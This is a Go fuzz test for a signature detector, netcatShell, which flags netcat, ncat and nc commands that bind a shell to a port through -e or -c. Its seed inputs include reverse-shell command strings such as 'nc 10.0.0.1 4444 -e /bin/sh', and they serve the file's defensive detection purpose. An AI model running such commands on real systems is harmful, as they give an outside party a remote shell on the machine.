package signature

import (
	"strconv"
	"strings"
	"testing"
)

// FuzzNetcatShell holds netcatShell to its contract (and blankOption to
// strings.Contains): it never panics,
// and what it finds is one command of the value (no separator inside)
// that opens with nc, ncat or netcat and holds an -e or -c given a shell
// and a port number.
func FuzzNetcatShell(f *testing.F) {
	for _, s := range []string{"nc 10.0.0.1 4444 -e /bin/sh", "x;ncat -e cmd.exe h 443", "nc -e", "netcat -c 'bash' h 1", "nc -e sh 0", "a | nc h 80 -esh"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, v string) {
		if got, want := blankOption(v), strings.Contains(v, " -e") || strings.Contains(v, " -c"); got != want {
			t.Fatalf("blankOption(%q) = %v, want %v", v, got, want)
		}
		i, j, ok := netcatShell(v)
		if !ok {
			return
		}
		if i < 0 || j <= i || j > len(v) {
			t.Fatalf("%q: span %d..%d", v, i, j)
		}
		cmd := v[i:j]
		if strings.ContainsAny(cmd, ";|&\n\r`") {
			t.Fatalf("%q: %q crosses a separator", v, cmd)
		}
		args := strings.Fields(cmd)
		name := strings.Trim(args[0], "'\"(")
		name = name[strings.LastIndexByte(name, '/')+1:]
		if n := strings.ToLower(name); n != "nc" && n != "ncat" && n != "netcat" {
			t.Fatalf("%q: %q does not open with netcat", v, cmd)
		}
		shell, port := false, false
		for a, w := range args[1:] {
			if p, err := strconv.Atoi(w); err == nil && p > 0 && p < 65536 {
				port = true
			}
			if (w == "-e" || w == "-c") && a+2 < len(args) && shellName(args[a+2]) || len(w) > 2 && (w[:2] == "-e" || w[:2] == "-c") && shellName(w[2:]) {
				shell = true
			}
		}
		if !shell || !port {
			t.Fatalf("%q: %q lacks a shell (%v) or a port (%v)", v, cmd, shell, port)
		}
	})
}
